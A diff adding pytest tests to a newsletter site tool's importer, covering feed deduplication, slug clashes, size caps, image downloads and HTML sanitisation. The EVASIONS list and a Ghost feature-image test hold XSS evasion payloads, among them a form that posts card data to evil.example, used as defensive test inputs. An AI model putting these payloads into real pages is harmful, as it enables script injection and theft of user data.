@@ -9,6 +9,7 @@ from __future__ import annotations
 import csv
 import datetime as dt
 import hashlib
+import html
 import http.server
 import io
 import json
@@ -1000,3 +1001,437 @@ def test_older_substack_csv_and_a_title_over_two_lines(
     issue = loaded(newsletter.root)["2019-07-26-old-style.md"]
     assert (issue.title, issue.subtitle) == ("A title over two lines", "“Quoted”")
     assert issue.date == dt.datetime(2019, 7, 26, 20, 48, 19, tzinfo=dt.UTC)
+
+
+# --- Findings of the review --------------------------------------------------------------------
+
+
+def rss(items: str, link: str = "https://old.example/") -> str:
+    return (
+        '<?xml version="1.0" encoding="UTF-8"?>\n<rss version="2.0"><channel><title>T</title>'
+        f"<link>{link}</link><description>d</description>{items}</channel></rss>\n"
+    )
+
+
+def test_feed_entries_without_guid_or_link_are_each_imported(
+    newsletter: Newsletter, tmp_path: Path
+) -> None:
+    items = "".join(
+        f"<item><title>Item {n}</title><pubDate>Mon, 0{n} Jan 2024 10:00:00 +0000</pubDate>"
+        f"<description>Body {n}.</description></item>"
+        for n in (1, 2, 3)
+    )
+    source = tmp_path / "feed.xml"
+    source.write_text(rss(items), encoding="utf-8")
+    result = run(newsletter.root, "import", str(source))
+    assert result.exit_code == 0, result.output
+    assert "imported 3 issues" in result.output
+    assert len(loaded(newsletter.root)) == 3
+    mapping = json.loads((newsletter.root / "imported.json").read_text(encoding="utf-8"))
+    assert len(mapping) == 3 and all(r["key"] for r in mapping)
+    again = run(newsletter.root, "import", str(source))
+    assert "nothing to import: all 3 entries were imported before" in again.output
+
+
+def test_a_post_whose_old_address_cannot_be_a_page_is_imported_without_redirect(
+    newsletter: Newsletter, tmp_path: Path
+) -> None:
+    items = "".join(
+        f"<item><title>Item {n}</title><link>https://old.example{path}</link>"
+        f"<guid>urn:item:{n}</guid><pubDate>Mon, 0{n} Jan 2024 10:00:00 +0000</pubDate>"
+        f"<description>Body {n}.</description></item>"
+        for n, path in ((1, "/story.php?id=5"), (2, "/.hidden/x/"))
+    )
+    source = tmp_path / "feed.xml"
+    source.write_text(rss(items), encoding="utf-8")
+    result = run(newsletter.root, "import", str(source))
+    assert result.exit_code == 0, result.output
+    assert "imported 2 issues" in result.output
+    for old in ("https://old.example/story.php", "https://old.example/.hidden/x/"):
+        assert f"old address {old} cannot be a page of the new site: no redirect" in result.output
+    issues = loaded(newsletter.root)
+    assert len(issues) == 2 and all(not i.redirect_from for i in issues.values())
+    assert run(newsletter.root, "build").exit_code == 0
+
+
+def test_an_imported_slug_never_takes_an_existing_issues_or_the_sites_own(
+    newsletter: Newsletter, tmp_path: Path
+) -> None:
+    newsletter.issue("2025-07-15-welcome.md", title="Welcome")
+    items = "".join(
+        f"<item><title>{slug.title()}</title><link>https://old.example/{slug}/</link>"
+        f"<guid>urn:item:{n}</guid><pubDate>Mon, 0{n} Jan 2024 10:00:00 +0000</pubDate>"
+        f"<description>Body {n}.</description></item>"
+        for n, slug in ((1, "welcome"), (2, "tags"), (3, "page"))
+    )
+    source = tmp_path / "feed.xml"
+    source.write_text(rss(items), encoding="utf-8")
+    result = run(newsletter.root, "import", str(source))
+    assert result.exit_code == 0, result.output
+    slugs = sorted(i.slug for i in loaded(newsletter.root).values())
+    assert slugs == ["page-2", "tags-2", "welcome", "welcome-2"]
+    built = run(newsletter.root, "build")
+    assert built.exit_code == 0, built.output
+
+
+def test_an_imported_issue_moved_or_redated_is_not_imported_again(
+    newsletter: Newsletter, tmp_path: Path
+) -> None:
+    items = "".join(
+        f"<item><title>Item {n}</title><link>https://old.example/item-{n}/</link>"
+        f"<guid>urn:item:{n}</guid><pubDate>Mon, 0{n} Jan 2024 10:00:00 +0000</pubDate>"
+        f"<description>Body {n}.</description></item>"
+        for n in (1, 2)
+    )
+    source = tmp_path / "feed.xml"
+    source.write_text(rss(items), encoding="utf-8")
+    assert run(newsletter.root, "import", str(source)).exit_code == 0
+    issues = newsletter.root / "issues"
+    (issues / "2024-01-01-item-1").mkdir()
+    (issues / "2024-01-01-item-1.md").rename(issues / "2024-01-01-item-1/index.md")
+    (issues / "2024-01-02-item-2.md").rename(issues / "2024-02-20-item-2.md")
+    before = tree(newsletter.root)
+    again = run(newsletter.root, "import", str(source))
+    assert again.exit_code == 0, again.output
+    assert "nothing to import: all 2 entries were imported before" in again.output
+    assert "unchanged: issues/2024-01-01-item-1/index.md (imported before)" in again.output
+    assert "unchanged: issues/2024-02-20-item-2.md (imported before)" in again.output
+    record = json.loads((newsletter.root / "imported.json").read_text(encoding="utf-8"))
+    assert sorted(r["file"] for r in record) == [
+        "issues/2024-01-01-item-1/index.md",  # the record follows the files
+        "issues/2024-02-20-item-2.md",
+    ]
+    del before["imported.json"]
+    assert {k: v for k, v in tree(newsletter.root).items() if k != "imported.json"} == before
+    (newsletter.root / "imported.json").unlink()  # found by their ids alone
+    third = run(newsletter.root, "import", str(source))
+    assert "nothing to import: all 2 entries were imported before" in third.output
+    assert len(loaded(newsletter.root)) == 2
+    assert run(newsletter.root, "check").exit_code == 0
+
+
+def test_a_file_in_the_way_is_kept_as_it_is_and_no_move_suggested(
+    newsletter: Newsletter, tmp_path: Path
+) -> None:
+    newsletter.issue("2024-03-05-wires.md", body="My own words.\n", title="Mine")
+    result = run(newsletter.root, "import", str(substack_zip(tmp_path / "export.zip")))
+    kept = next(line for line in result.output.splitlines() if line.startswith("kept:"))
+    assert "move" not in kept and "kept as it is" in kept
+
+
+#: Markdown that tries to get a script or a redirect past the cleaning of a Markdown body.
+EVASIONS = (
+    "<scr<script>x</script>ipt>alert(1)</script>",
+    'Text <a href="jav&#x61;script:alert(1)">here</a>.',
+    "[x](<javascript:alert(1)>)",
+    "[y][ref]\n\n[ref]: javascript:alert(1)",
+    "![z](JaVa&#x09;ScRiPt:alert(1))",
+    "<JAVASCRIPT:alert(1)>",
+    '<form action="https://evil.example/steal"><input name="card"></form>',
+    '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
+    "Inline <scr<b>ipt>alert(1)</scr<b>ipt> tag.",
+    "> [q](jav&#x61;script:alert(1))",
+)
+
+
+def buttondown_markdown(path: Path, body: str) -> Path:
+    emails = [
+        {
+            "id": "1",
+            "subject": "Plain",
+            "publish_date": "2024-02-08 08:00:00+00:00",
+            "slug": "plain",
+            "status": "sent",
+        }
+    ]
+    return make_zip(
+        path,
+        {
+            "emails.json": json.dumps(emails),
+            "emails/plain.md": f"<!-- buttondown-editor-mode: plaintext -->\n{body}",
+        },
+    )
+
+
+@pytest.mark.parametrize("evasion", EVASIONS)
+def test_no_script_gets_through_a_markdown_body(
+    newsletter: Newsletter, tmp_path: Path, evasion: str
+) -> None:
+    body = f"Before, *kept*: [a link](https://example.org/).\n\n{evasion}\n\nAfter.\n"
+    result = run(newsletter.root, "import", str(buttondown_markdown(tmp_path / "b.zip", body)))
+    assert result.exit_code == 0, result.output
+    text = (newsletter.root / "issues/2024-02-08-plain.md").read_text(encoding="utf-8")
+    assert "Before, *kept*: [a link](https://example.org/)." in text and "After." in text
+    if "<b>" not in evasion:  # (that one's tags are all kept: <b> and text)
+        assert "script link (" in result.output or "unsafe HTML (" in result.output
+    decoded = " ".join(html.unescape(text).split()).lower().replace(" ", "")
+    for gone in ("<script", "javascript:", "<form", "<meta", "evil.example", "<input"):
+        assert gone not in decoded, text
+    built = run(newsletter.root, "build")
+    assert built.exit_code == 0, built.output
+    page = (newsletter.root / "site/plain/index.html").read_text(encoding="utf-8").lower()
+    assert "javascript:" not in page and "<form" not in page and "evil.example" not in page
+
+
+def test_text_of_an_html_body_that_reads_as_markdown_stays_text(
+    newsletter: Newsletter, tmp_path: Path
+) -> None:
+    literal = (
+        "[click](javascript:alert(1))",
+        "# Not a heading",
+        "1. not a list",
+        "::: note",
+        "> not a quote",
+    )
+    body = "<p>Intro.</p>" + "".join(f"<p>{html.escape(t)}</p>" for t in literal)
+    csv_text = SUBSTACK_HEADER + "\n201.text,2024-03-05T09:00:00.000Z,true,,,newsletter,e,T,,\n"
+    source = make_zip(tmp_path / "e.zip", {"posts.csv": csv_text, "posts/201.text.html": body})
+    result = run(newsletter.root, "import", str(source))
+    assert result.exit_code == 0, result.output
+    built = run(newsletter.root, "build")
+    assert built.exit_code == 0, built.output
+    page = lxml.html.parse(str(newsletter.root / "site/text/index.html"))
+    article = page.xpath("//*[p[normalize-space()='Intro.']]")[0]
+    paragraphs = [" ".join(p.text_content().split()) for p in article.xpath("./p")]
+    assert paragraphs == ["Intro.", *literal]
+    assert not article.xpath(".//a | .//h1 | .//ol | .//blockquote | .//aside | .//div")
+
+
+def test_template_tags_in_code_are_kept(newsletter: Newsletter, tmp_path: Path) -> None:
+    code = "```jinja\n{% for x in xs %}\n\n{{ x }}\n{% endfor %}\n```"
+    body = f"Use `{{{{ name }}}}` in Jinja.\n\n{code}\n\n{{{{ subscribe_form }}}}\n\nEnd.\n"
+    result = run(newsletter.root, "import", str(buttondown_markdown(tmp_path / "b.zip", body)))
+    assert result.exit_code == 0, result.output
+    text = loaded(newsletter.root)["2024-02-08-plain.md"].body
+    assert "Use `{{ name }}` in Jinja." in text
+    assert code in text
+    assert "subscribe_form" not in text and "End." in text
+    assert "template tag (1)" in result.output
+
+
+def test_template_tags_in_the_code_of_an_html_body_are_kept(
+    newsletter: Newsletter, tmp_path: Path
+) -> None:
+    body = "<p><code>{{ name }}</code></p><p>{{ a }} and {{ b }}</p><p>{{ subscribe_form }}</p>"
+    csv_text = SUBSTACK_HEADER + "\n201.tmpl,2024-03-05T09:00:00.000Z,true,,,newsletter,e,T,,\n"
+    source = make_zip(tmp_path / "e.zip", {"posts.csv": csv_text, "posts/201.tmpl.html": body})
+    result = run(newsletter.root, "import", str(source))
+    assert result.exit_code == 0, result.output
+    text = loaded(newsletter.root)["2024-03-05-tmpl.md"].body
+    assert "`{{ name }}`" in text and "\\{\\{ a \\}\\} and \\{\\{ b \\}\\}" in text
+    assert "subscribe_form" not in text
+
+
+@pytest.fixture
+def two_images() -> Iterator[ImageServer]:
+    from PIL import Image
+
+    files = {}
+    for path, colour in (("/img/a.png", (200, 0, 0)), ("/img/a.png?w=2", (0, 0, 200))):
+        buffer = io.BytesIO()
+        Image.new("RGB", (20, 20), colour).save(buffer, "PNG")
+        files[path] = buffer.getvalue()
+    served = ImageServer(files, {})
+    thread = threading.Thread(target=served.server.serve_forever, daemon=True)
+    thread.start()
+    yield served
+    served.server.shutdown()
+    served.server.server_close()
+
+
+def test_downloaded_images_whose_addresses_share_a_start_each_get_their_file(
+    newsletter: Newsletter, tmp_path: Path, two_images: ImageServer
+) -> None:
+    url = two_images.url
+    body = (
+        f'<p><img src="{url}/img/a.png" alt="A"></p><p><img src="{url}/img/a.png?w=2" alt="B"></p>'
+    )
+    csv_text = SUBSTACK_HEADER + "\n201.pics,2024-03-05T09:00:00.000Z,true,,,newsletter,e,T,,\n"
+    source = make_zip(tmp_path / "e.zip", {"posts.csv": csv_text, "posts/201.pics.html": body})
+    result = run(newsletter.root, "import", str(source), "--download-images")
+    assert result.exit_code == 0, result.output
+    text = (newsletter.root / "issues/2024-03-05-pics/index.md").read_text(encoding="utf-8")
+    assert "![A](a.png)" in text and "![B](a-2.png)" in text
+
+
+def test_an_image_address_httpx_refuses_stays_remote_and_the_record_is_saved(
+    newsletter: Newsletter, tmp_path: Path, images_server: ImageServer
+) -> None:
+    url = images_server.url
+    body = f"![Red]({url}/img/red.png)\n\n![Bad](http://[::1/x.png)\n"
+    source = buttondown_markdown(tmp_path / "b.zip", body)
+    result = run(newsletter.root, "import", str(source), "--download-images")
+    assert result.exit_code == 0, result.output
+    assert "image http://[::1/x.png stays remote: " in result.output
+    text = (newsletter.root / "issues/2024-02-08-plain/index.md").read_text(encoding="utf-8")
+    assert "![Red](red.png)" in text and "![Bad](http://[::1/x.png)" in text
+    record = json.loads((newsletter.root / "imported.json").read_text(encoding="utf-8"))
+    assert [r["file"] for r in record] == ["issues/2024-02-08-plain/index.md"]
+
+
+def test_the_record_is_saved_when_a_later_entry_fails(
+    newsletter: Newsletter, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    from publisher.importer import images
+
+    calls: list[str] = []
+
+    def failing(urls: list[str], folder: Path) -> tuple[dict[str, str], dict[str, str]]:
+        calls.append(folder.name)
+        if len(calls) == 2:
+            raise RuntimeError("the disk is gone")
+        return {}, {u: "not fetched here" for u in urls}
+
+    monkeypatch.setattr(images, "download", failing)
+    rows = "".join(
+        f"20{n}.p{n},2024-03-0{n}T09:00:00.000Z,true,,,newsletter,e,T{n},,\n" for n in (1, 2)
+    )
+    files = {f"posts/20{n}.p{n}.html": f'<img src="https://x.example/{n}.png">' for n in (1, 2)}
+    source = make_zip(tmp_path / "e.zip", {"posts.csv": SUBSTACK_HEADER + "\n" + rows, **files})
+    with pytest.raises(RuntimeError):
+        run(newsletter.root, "import", str(source), "--download-images")
+    record = json.loads((newsletter.root / "imported.json").read_text(encoding="utf-8"))
+    assert [r["file"] for r in record] == ["issues/2024-03-01-p1/index.md"]
+
+
+def ghost_post(**fields: Any) -> dict[str, Any]:
+    return {
+        "type": "post",
+        "id": "6500000000000000000000b1",
+        "title": "Placeholders",
+        "slug": "placeholders",
+        "status": "published",
+        "published_at": "2024-01-10T12:00:00.000Z",
+        **fields,
+    }
+
+
+def test_ghosts_url_placeholder_becomes_the_old_sites_address(
+    newsletter: Newsletter, tmp_path: Path
+) -> None:
+    post = ghost_post(
+        html='<p><img src="__GHOST_URL__/content/images/a.jpg" alt="A">'
+        '<a href="__GHOST_URL__/other/">other</a></p>',
+        feature_image="__GHOST_URL__/content/images/f.jpg",
+        feature_image_caption='By <a href="__GHOST_URL__/author/">me</a>',
+    )
+    source = tmp_path / "ghost.json"
+    source.write_text(json.dumps(ghost_export([post])), encoding="utf-8")
+    without = run(newsletter.root, "import", str(source))
+    assert without.exit_code == 1
+    assert "posts[0] (post placeholders)" in without.stderr
+    assert "--old-site https://your-ghost-site" in without.stderr
+    result = run(newsletter.root, "import", str(source), "--old-site", "https://old.example/gp")
+    assert result.exit_code == 0, result.output
+    body = loaded(newsletter.root)["2024-01-10-placeholders.md"].body
+    assert "__GHOST_URL__" not in body
+    assert '![](https://old.example/gp/content/images/f.jpg "By me")' in body
+    assert "![A](https://old.example/gp/content/images/a.jpg)" in body
+    assert "[other](https://old.example/gp/other/)" in body
+
+
+def test_a_ghost_feature_image_cannot_add_attributes(
+    newsletter: Newsletter, tmp_path: Path
+) -> None:
+    post = ghost_post(
+        html="<p>Body.</p>",
+        feature_image='https://old.example/f.jpg" onerror="alert(1)',
+        feature_image_alt='A "quoted" <b>alt</b>',
+        feature_image_caption="<i>Caption</i> <script>alert(2)</script>",
+    )
+    source = tmp_path / "ghost.json"
+    source.write_text(json.dumps(ghost_export([post])), encoding="utf-8")
+    result = run(newsletter.root, "import", str(source))
+    assert result.exit_code == 0, result.output
+    body = loaded(newsletter.root)["2024-01-10-placeholders.md"].body
+    assert "onerror" not in body.replace("%22%20onerror", "") and "alert(" not in body
+    image = (
+        '![A "quoted" <b>alt</b>](https://old.example/f.jpg%22%20onerror=%22alert%281%29 "Caption")'
+    )
+    assert body.strip().startswith(image)
+
+
+def test_an_export_index_over_the_cap_is_refused_before_it_is_read(
+    newsletter: Newsletter, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    from publisher.importer import entry
+
+    monkeypatch.setattr(entry, "MAX_INDEX_BYTES", 1000, raising=False)
+    emails = [
+        {
+            "id": str(n),
+            "subject": "S",
+            "publish_date": "2024-02-08 08:00:00+00:00",
+            "slug": f"s{n}",
+            "status": "sent",
+            "body": "x" * 100,
+        }
+        for n in range(20)
+    ]
+    zipped = make_zip(tmp_path / "b.zip", {"emails.json": json.dumps(emails)})
+    result = run(newsletter.root, "import", str(zipped))
+    assert result.exit_code == 1
+    assert "emails.json: " in result.stderr and "over the 1 KB cap" in result.stderr
+    ghost = tmp_path / "ghost.json"
+    ghost.write_text(json.dumps(ghost_export([ghost_post(html="<p>" + "x" * 2000 + "</p>")])))
+    result = run(newsletter.root, "import", str(ghost))
+    assert result.exit_code == 1
+    assert "ghost.json" in result.stderr and "over the 1 KB cap" in result.stderr
+    feed_file = tmp_path / "feed.xml"
+    items = "<item><title>T</title><guid>g</guid><description>" + "x" * 2000 + "</description>"
+    feed_file.write_text(rss(items + "<pubDate>Mon, 01 Jan 2024 10:00:00 +0000</pubDate></item>"))
+    result = run(newsletter.root, "import", str(feed_file))
+    assert result.exit_code == 1
+    assert "feed.xml" in result.stderr and "over the 1 KB cap" in result.stderr
+    assert list((newsletter.root / "issues").iterdir()) == []
+
+
+def test_a_feed_by_url_over_the_cap_is_refused(
+    newsletter: Newsletter, http_server: tuple[str, Path], monkeypatch: pytest.MonkeyPatch
+) -> None:
+    from publisher.importer import entry
+
+    monkeypatch.setattr(entry, "MAX_INDEX_BYTES", 1000, raising=False)
+    base_url, folder = http_server
+    item = "<item><title>T</title><guid>g</guid><description>" + "x" * 5000
+    item += "</description><pubDate>Mon, 01 Jan 2024 10:00:00 +0000</pubDate></item>"
+    (folder / "feed.xml").write_text(rss(item), encoding="utf-8")
+    result = run(newsletter.root, "import", base_url + "feed.xml")
+    assert result.exit_code == 1
+    assert (
+        f"{base_url}feed.xml: cannot be read (the feed is 5 KB, over the 1 KB cap)" in result.stderr
+    )
+
+
+def test_a_csv_field_over_the_limit_is_an_error_naming_its_row(
+    newsletter: Newsletter, tmp_path: Path
+) -> None:
+    huge = ["109.huge-title", "2024-06-01T09:00:00.000Z", "true", "", "", "newsletter", "e"]
+    huge += ["x" * 140_000, "", ""]
+    source = substack_zip(tmp_path / "export.zip", (huge,))
+    result = run(newsletter.root, "import", str(source))
+    assert result.exit_code == 1
+    assert "posts.csv:7: cannot be read (field larger than field limit" in result.stderr
+    assert (newsletter.root / "issues/2024-03-05-wires.md").exists()
+    button = make_zip(
+        tmp_path / "b.zip",
+        {"emails.csv": "id,subject,publish_date,slug,status\n1," + "x" * 140_000 + ",,s,sent\n"},
+    )
+    result = run(newsletter.root, "import", str(button))
+    assert result.exit_code == 1
+    assert "emails.csv:2: cannot be read (field larger than field limit" in result.stderr
+
+
+def test_an_address_that_is_no_address_in_an_html_body_is_dropped(
+    newsletter: Newsletter, tmp_path: Path
+) -> None:
+    body = (
+        '<p>A <a href="http://[::1/page">link</a>.</p><p><img src="http://[::1/x.png" alt="X"></p>'
+    )
+    csv_text = SUBSTACK_HEADER + "\n201.bad,2024-03-05T09:00:00.000Z,true,,,newsletter,e,T,,\n"
+    source = make_zip(tmp_path / "e.zip", {"posts.csv": csv_text, "posts/201.bad.html": body})
+    result = run(newsletter.root, "import", str(source), "--old-site", "https://w.example/")
+    assert result.exit_code == 0, result.output
+    text = loaded(newsletter.root)["2024-03-05-bad.md"].body
+    assert "[::1" not in text and "A link." in text
+    assert "bad address (2)" in result.output
